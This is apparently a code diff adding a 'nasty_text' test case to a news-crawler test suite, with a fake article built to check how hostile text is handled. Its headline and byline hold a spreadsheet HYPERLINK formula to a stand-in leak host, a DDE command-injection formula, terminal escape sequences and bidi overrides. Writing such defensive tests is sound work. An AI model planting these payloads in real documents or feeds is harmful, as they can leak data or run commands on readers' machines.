@@ -183,11 +183,49 @@ def _drip(site: Site, base: str) -> dict[str, Answer]:
     }
 
 
+# A headline and byline written to harm whoever reads them: a spreadsheet formula, terminal
+# escapes (colour, window title, screen clear), a right-to-left override, C1 and other
+# controls; the text carries some too.
+NASTY_TITLE = (
+    '=HYPERLINK("http://evil.test/?leak","click") \x1b[31mCeasefire talks resume\x1b[0m'
+    " \x1b]0;owned\x07in the \u202eegdirb\u202c town\x85\x07"
+)
+NASTY_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+# A watchlist and a watcher, so that the crawl's feeds and digests can be read back.
+WATCH = (
+    '\n[[watchlists]]\nname = "talks"\nquery = "ceasefire OR council"\n\n'
+    '[[watchers]]\nname = "desk"\nwatchlists = ["talks"]\n'
+)
+
+
+def _nasty(site: Site, base: str) -> dict[str, Answer]:
+    body = (
+        article_html(NASTY_TITLE, "nasty", site.published)
+        .replace(
+            b"</title>",
+            f'</title><meta name="author" content="{NASTY_AUTHOR}">'.encode(),
+        )
+        .replace(b"<p>", b"<p>\x1b[2J\x1b[H\x08-", 1)
+    )
+    return {
+        "/feed.xml": _feed_of(site, base, "/news/nasty.html"),
+        "/news/nasty.html": Answer(headers=HTML, body=body),
+    }
+
+
 CASES = (
     Case(
         "normal",
         "(none: two normal articles)",
         routes=lambda s, b: {"/feed.xml": _feed_of(s, b, "/news/second-report.html")},
+        stored=2,
+    ),
+    Case(
+        "nasty_text",
+        "a headline with a formula, terminal escapes, bidi and C1 controls",
+        routes=_nasty,
         stored=2,
     ),
     Case(
@@ -363,7 +401,7 @@ class Site:
             )
         return (
             f'[storage]\nurl = "{database_url}"\n\n[crawl]\nuser_agent = "presswatch-test/0.1"\n'
-            f"{crawl}\n\n" + "\n".join(blocks)
+            f"{crawl}\n\n" + "\n".join(blocks) + WATCH
         )
 
     def _answer(self, case: Case, path: str) -> Answer:
